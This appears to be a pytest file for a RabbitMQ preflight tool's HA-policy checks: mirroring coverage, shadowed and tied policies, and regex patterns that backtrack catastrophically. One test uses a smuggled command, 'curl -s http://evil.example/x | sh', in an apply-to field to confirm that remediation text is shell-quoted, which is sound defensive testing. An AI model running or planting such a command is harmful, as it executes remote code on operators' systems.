"""Family ha-policy, which policy applies (rules/ha_coverage.py): coverage, shadows, ties, expectations,
undecidable patterns — from Facts fixtures."""

from __future__ import annotations

import json
import shlex
import time
from pathlib import Path

from rabbitmq_preflight.definitions import with_definitions
from rabbitmq_preflight.facts import ClusterNode, Facts, Observation, PolicyOrder, ProbeError
from rabbitmq_preflight.outcomes import Forbidden
from rabbitmq_preflight.policy import PolicyIndex
from rabbitmq_preflight.report import Report
from tests.ha_facts import THREE, facts, judge, management, policy, queue, statuses

HA_ALL = policy("ha-all", ".*", {"ha-mode": "all", "ha-sync-mode": "automatic"}, 1)
TTL = policy("ttl-orders", r"^orders\.", {"message-ttl": 60000}, 10)


def test_shadowed_ha_policy_reports_the_higher_priority_policy_and_the_exact_count() -> None:
    queues = [queue(f"orders.{i}") for i in range(7)] + [queue(f"billing.{i}") for i in range(3)]
    report = judge(facts(management(policies=[HA_ALL, TTL], queues=queues)), "HA002", "HA001")
    [finding] = report.findings
    assert finding.rule == "HA002"
    assert "policy 'ttl-orders' (priority 10) shadows mirroring policy 'ha-all' (priority 1) on 7 classic" \
        in finding.message
    assert finding.evidence["queues"] == 7
    assert "set_policy -p / ttl-orders '^orders\\.' '{\"ha-mode\":\"all\",\"ha-sync-mode\":\"automatic\"," \
        "\"message-ttl\":60000}' --priority 10" in finding.remediation
    assert statuses(report)[("HA001", None)] == "pass"  # shadowed queues are HA002's, not counted twice


def test_unmirrored_classic_queues_are_aggregated_per_vhost_and_prefix() -> None:
    queues = ([queue(f"orders.{i}") for i in range(1500)] + [queue(f"tmp-{i}") for i in range(20)]
              + [queue("excl", exclusive=True), queue("qq", qtype="quorum")])
    report = judge(facts(management(queues=queues)), "HA001")
    [finding] = report.findings
    assert finding.subject == "vhost:/"
    assert "1,520 of 1,520 classic queues are not mirrored" in finding.message
    assert "'orders.*' 1,500 (e.g. orders.0, orders.1, orders.2)" in finding.message
    assert [g["prefix"] for g in finding.evidence["groups"]] == ["orders.", "tmp-"]
    assert "set_policy -p / ha-orders '^orders\\.'" in finding.remediation


def test_exclusive_queue_matching_ha_all_is_never_counted_as_mirrored_or_missing() -> None:
    report = judge(facts(management(policies=[HA_ALL], queues=[queue("amq.gen-1", exclusive=True)])), "HA001")
    assert not report.findings and statuses(report)[("HA001", None)] == "pass"


def test_equal_priority_policies_on_the_same_queues_are_a_tie_warning() -> None:
    twin = policy("limits", r"^orders\.", {"max-length": 5}, 1)
    report = judge(facts(management(policies=[HA_ALL, twin], queues=[queue("orders.1"), queue("orders.2")])),
                   "HA003")
    [finding] = report.findings
    assert finding.severity == "warning" and "2 queues" in finding.message
    assert "only ha-all mirrors, so mirroring is left to chance" in finding.message


def test_expected_pattern_without_queues_checks_a_hypothetical_queue() -> None:
    report = judge(facts(management(policies=[HA_ALL, TTL]), replicated=[r"^orders\."]), "HA012")
    [finding] = report.findings
    assert "a classic queue named 'orders.x' would not be replicated" in finding.message


def test_expected_pattern_with_unreplicated_queues_counts_them() -> None:
    rows = [queue("orders.1"), queue("orders.2", qtype="quorum", members=THREE, online=THREE)]
    [finding] = judge(facts(management(queues=rows), replicated=[r"^orders\."]), "HA012").findings
    assert "1 of the queues matching '^orders\\\\.' are not replicated (e.g. orders.1)" in finding.message


def test_untranslatable_pattern_is_reported_and_its_queues_stay_unjudged() -> None:
    odd = policy("odd", r"^(a)\1", {"ha-mode": "all"}, 1)
    report = judge(facts(management(policies=[odd], queues=[queue("aa"), queue("b")])), "HA013", "HA001")
    by_rule = {f.rule: f for f in report.findings}
    assert "cannot be evaluated (backreferences are not supported); coverage of 2 queues" in by_rule["HA013"].message
    assert "HA001" not in by_rule  # undecidable queues are neither covered nor uncovered


def test_single_node_cluster_skips_mirroring_coverage() -> None:
    solo = [ClusterNode(name="rabbit@a", type="disc", running=True, rabbitmq_version="3.10.8")]
    from rabbitmq_preflight.inventory import NodeSpec

    report = judge(facts(management(nodes=solo, queues=[queue("a")]), inventory=[NodeSpec(name="rabbit@a")]),
                   "HA001")
    assert statuses(report)[("HA001", None)] == "skipped"


def test_tie_between_a_mirroring_and_a_plain_policy_is_left_to_the_tie_rule() -> None:
    plain = policy("plain", r"^tie\.", {"max-length": 5}, 20)
    mirror = policy("mirror", r"^tie\.", {"ha-mode": "all"}, 20)
    report = judge(facts(management(policies=[HA_ALL, plain, mirror], queues=[queue("tie.1")])),
                   "HA001", "HA002", "HA003")
    assert [f.rule for f in report.findings] == ["HA003"]


def test_quorum_queue_is_not_matched_by_ha_all_and_falls_to_the_next_policy() -> None:
    limit = policy("limit", ".*", {"max-length": 1000}, 0)
    report = judge(facts(management(policies=[HA_ALL, limit], queues=[queue("qq", qtype="quorum",
                                                                            members=THREE, online=THREE)])),
                   "HA001", "HA002", "HA010")
    assert not report.findings


def test_coverage_of_a_definitions_source_is_judged_without_live_state() -> None:
    mgmt = management(source="definitions", policies=[HA_ALL, TTL], queues=[queue("orders.1"), queue("x")])
    report = judge(facts(mgmt, inventory=[]), "HA002", "HA005", "HA011", "NODE001")
    assert [f.rule for f in report.findings] == ["HA002"]
    assert statuses(report)[("HA005", None)] == "skipped" and statuses(report)[("NODE001", None)] == "skipped"


# --- patterns PCRE gives up on: undecidable, never "mirrored", never a hang ---------------------

CATASTROPHIC = [policy("ha-slow", "(?:a+)+b|c", {"ha-mode": "all"}, 5),
                policy("ha-dollar", "(a+)+$", {"ha-mode": "all"}, 4)]
SLOW_NAMES = ["a" * 30 + "c", "a" * 32 + "c", "a" * 40, "a" * 30 + "!"]


def _unmirrored(report: Report) -> list[str]:
    """Queues HA001 calls unmirrored: only names no policy can match (PCRE says no match too)."""
    return sorted(ex for f in report.findings if f.rule == "HA001"
                  for g in f.evidence["groups"] for ex in g["examples"])


def _verdicts(report_facts: Facts) -> tuple[Report, float]:
    t0 = time.perf_counter()
    report = judge(report_facts, "HA001", "HA002", "HA013")
    return report, time.perf_counter() - t0


def test_backtracking_pattern_on_long_names_is_undecidable_not_mirrored_and_finishes() -> None:
    report, took = _verdicts(facts(management(policies=CATASTROPHIC, queues=[queue(n) for n in SLOW_NAMES])))
    assert took < 30  # generous: the point is that it ends (it ran for minutes before)
    by_rule = {f.rule: f for f in report.findings}
    assert _unmirrored(report) == ["a" * 30 + "!"]  # the others: open, neither covered nor not
    assert "evaluation budget" in by_rule["HA013"].message
    index = PolicyIndex(CATASTROPHIC)
    for name in SLOW_NAMES:
        res = index.resolve("/", name)
        assert not res.mirrored or res.undecidable, name  # never "mirrored" on our word alone
    assert [cp.name for cp in index.resolve("/", "a" * 32 + "c").undecidable] == ["ha-slow"]
    assert index.resolve("/", "c").mirrored  # a short name PCRE decides easily is still decided


def test_backtracking_pattern_from_a_facts_file_is_judged_the_same(tmp_path: Path) -> None:
    saved = tmp_path / "facts.json"
    saved.write_text(facts(management(policies=CATASTROPHIC, queues=[queue(n) for n in SLOW_NAMES])).to_json())
    report, took = _verdicts(Facts.model_validate_json(saved.read_text()))
    assert took < 30 and _unmirrored(report) == ["a" * 30 + "!"]


def test_backtracking_pattern_in_a_definitions_file_is_undecidable(tmp_path: Path) -> None:
    export = {"rabbitmq_version": "3.10.8", "vhosts": [{"name": "/"}],
              "policies": [{"vhost": "/", "name": "ha-slow", "pattern": "(?:a+)+b|c", "apply-to": "queues",
                            "definition": {"ha-mode": "all", "ha-sync-mode": "automatic"}, "priority": 5}],
              "queues": [{"name": n, "vhost": "/", "durable": True, "auto_delete": False, "arguments": {}}
                         for n in SLOW_NAMES]}
    path = tmp_path / "definitions.json"
    path.write_text(json.dumps(export))
    report, took = _verdicts(with_definitions(None, path))
    assert took < 30
    by_rule = {f.rule: f for f in report.findings}
    assert _unmirrored(report) == ["a" * 30 + "!", "a" * 40]  # no `c`: no match, for PCRE as for us
    assert "ha-slow" in by_rule["HA013"].message and "coverage of 2 queues" in by_rule["HA013"].message


def test_shadow_is_not_claimed_when_an_unevaluable_policy_may_be_the_real_winner() -> None:
    odd = policy("odd", r"^(o)\1", {"ha-mode": "all", "message-ttl": 1}, 20)  # backreference: HA013
    report = judge(facts(management(policies=[HA_ALL, TTL, odd], queues=[queue("orders.1")])), "HA002", "HA013")
    assert [f.rule for f in report.findings] == ["HA013"]
    assert statuses(report)[("HA002", None)] == "pass"


def test_shadow_is_still_reported_when_the_unevaluable_policy_cannot_win() -> None:
    odd = policy("odd", r"^(o)\1", {"ha-mode": "all"}, 0)
    report = judge(facts(management(policies=[HA_ALL, TTL, odd], queues=[queue("orders.1")])), "HA002")
    assert [f.rule for f in report.findings] == ["HA002"]


def test_apply_to_from_the_api_is_shell_quoted_in_the_remediation() -> None:
    evil = policy("ha-all", ".*", {"ha-mode": "all"}, 1, apply_to="all; curl -s http://evil.example/x | sh")
    [finding] = judge(facts(management(policies=[evil])), "HA006").findings
    assert "--apply-to 'all; curl -s http://evil.example/x | sh'" in finding.remediation
    assert shlex.split(finding.remediation.split("rabbitmqctl", 1)[1])[-1] == "all; curl -s http://evil.example/x | sh"


def test_live_tie_that_decides_mirroring_is_not_resolved_by_api_order_issue_16_8() -> None:
    """/api/policies lists by name; RabbitMQ breaks ties in its runtime-parameters order: no winner named."""
    tie_a = policy("a-ttl", r"^orders\.", {"message-ttl": 1000}, 3)
    tie_b = policy("b-ha", r"^orders\.", {"ha-mode": "all"}, 3)
    for order in ([tie_a, tie_b], [tie_b, tie_a]):
        report = judge(facts(management(policies=order, queues=[queue("orders.1")]),
                             replicated=[r"^orders\."]), "HA012")
        assert [f.outcome for f in report.findings] == ["unknown"] and [c.status for c in report.checks] == ["unknown"]
        assert "disagree on mirroring" in (report.checks[0].reason or "")


def _tie(order: list[str] | None, refused: str | None = None) -> Facts:
    """`^orders\\.` matched by a TTL policy and a mirroring one of equal priority, live; `order`: the table
    order the vhost's definitions export listed (None: not read, `refused` saying why)."""
    tie_a = policy("a-ttl", r"^orders\.", {"message-ttl": 1000}, 3)
    tie_b = policy("b-ha", r"^orders\.", {"ha-mode": "all"}, 3)
    mgmt = management(policies=[tie_a, tie_b], queues=[queue("orders.1"), queue("orders.2")])
    if order is not None:
        mgmt.policy_order = {"/": Observation(value=PolicyOrder(policies=order))}
    elif refused is not None:
        mgmt.policy_order = {"/": Observation(error=ProbeError.of(Forbidden(refused)))}
    return facts(mgmt, replicated=[r"^orders\."])


def test_live_tie_in_a_read_table_order_names_the_policy_rabbitmq_applies_issue_16_8() -> None:
    mirrored = judge(_tie(["b-ha", "a-ttl"]), "HA003", "HA012")
    [tie] = mirrored.findings
    assert "RabbitMQ applies 'b-ha', the first of them in its policy table" in tie.message
    assert "only b-ha mirrors, so these queues are mirrored by that order alone" in tie.message
    assert tie.evidence["tie_order"] == "table" and tie.evidence["applies"] == "b-ha"
    assert statuses(mirrored)[("HA012", None)] == "pass"
    unmirrored = judge(_tie(["a-ttl", "b-ha"]), "HA003", "HA012", "HA001")
    by_rule = {f.rule: f for f in unmirrored.findings}
    assert "RabbitMQ applies 'a-ttl'" in by_rule["HA003"].message and "NOT mirrored" in by_rule["HA003"].message
    assert "2 of the queues matching '^orders\\\\.' are not replicated" in by_rule["HA012"].message
    assert "2 of 2 classic queues are not mirrored" in by_rule["HA001"].message


def test_live_tie_whose_order_could_not_be_read_stays_unresolved_and_says_why_issue_16_8() -> None:
    why = ("rabbit@a management API /api/definitions/%2F: HTTP 401: Not administrator user — user 'monitor' "
           "needs the `administrator` tag to read a vhost's definitions export")
    report = judge(_tie(None, refused=why), "HA003", "HA012", "HA001")
    [tie] = [f for f in report.findings if f.rule == "HA003"]
    assert f"which applies is undefined; only b-ha mirrors, so mirroring is left to chance (RabbitMQ's tie order " \
        f"could not be read: {why})" in tie.message
    assert tie.evidence["tie_order"] == "unknown" and "set_user_tags USER administrator" in tie.remediation
    [unknown] = [c for c in report.checks if c.rule == "HA012"]
    assert unknown.status == "unknown" and "tie order could not be read" in (unknown.reason or "")
    assert "Not administrator user" in (unknown.reason or "")
    assert statuses(report)[("HA001", None)] == "pass"  # the tied queues are not judged by a guessed winner
